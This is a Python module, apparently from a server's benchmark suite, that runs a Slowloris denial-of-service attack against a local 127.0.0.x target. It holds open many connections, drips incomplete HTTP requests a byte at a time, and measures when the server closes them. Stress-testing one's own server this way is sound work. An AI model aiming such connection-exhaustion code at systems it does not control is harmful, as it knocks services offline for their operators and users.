"""Slowloris for `make siege`: many TCP connections, each sending a request a byte at a time.

Every connection starts `GET /healthz HTTP/1.1` and then sends one more byte of it (headers
without end) every `DRIP` seconds, so its request is never complete. The connections come from
several 127.0.0.x addresses, so that the ports of one address do not run out. The job reports
how many got in and how many the server closed, and after how long.
"""
import asyncio
import itertools
import statistics
import time

from bench.attacks import CONNECT_TIMEOUT, DIALLERS, count, dial, outcome

DRIP = 10.0  # seconds between one connection's bytes
# Never ends with the blank line that would complete it.
REQUEST = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"X-Slow: " + b"a" * 4000


class Drip(asyncio.Protocol):
    """One slow request; notes when the server gave up on it."""

    def __init__(self):
        self.transport = None
        self.opened = time.monotonic()
        self.sent = 0
        self.closed_after: float | None = None

    def connection_made(self, transport) -> None:
        self.transport = transport
        self.next_byte()

    def next_byte(self) -> None:
        if self.closed_after is None:
            self.transport.write(REQUEST[self.sent:self.sent + 1])
            self.sent += 1

    def data_received(self, data: bytes) -> None:
        pass  # a 408 or 400, if the server says anything before closing

    def connection_lost(self, exc) -> None:
        if self.closed_after is None:
            self.closed_after = time.monotonic() - self.opened


async def slowloris(_conns, job) -> dict:
    """Open up to `count` connections within `seconds`, drip into each, then reset them all."""
    loop = asyncio.get_running_loop()
    deadline = time.monotonic() + job["seconds"]
    drips: list[Drip] = []
    failed: dict[str, int] = {}
    sources, tried = itertools.cycle(job["sources"]), iter(range(job["count"]))

    async def dialler() -> None:
        for _ in tried:
            if time.monotonic() >= deadline:
                return
            try:
                sock = await asyncio.wait_for(dial(job["url"], next(sources)), CONNECT_TIMEOUT)
                drips.append((await loop.create_connection(Drip, sock=sock))[1])
            except (OSError, asyncio.TimeoutError) as exc:
                count(failed, outcome(exc))

    async def dripping() -> None:
        # A tenth of the connections each second: every one gets a byte every DRIP seconds.
        for second in itertools.count():
            if time.monotonic() >= deadline:
                return
            for drip in drips[second % int(DRIP)::int(DRIP)]:
                drip.next_byte()
            await asyncio.sleep(1)

    await asyncio.gather(dripping(), *(dialler() for _ in range(DIALLERS)))
    closed = [d.closed_after for d in drips if d.closed_after is not None]
    for drip in drips:
        drip.transport.abort()
    return {"count": job["count"], "connected": len(drips), "failed": failed,
            "closed_by_server": len(closed),
            "closed_after_s": round(statistics.median(closed), 1) if closed else None}
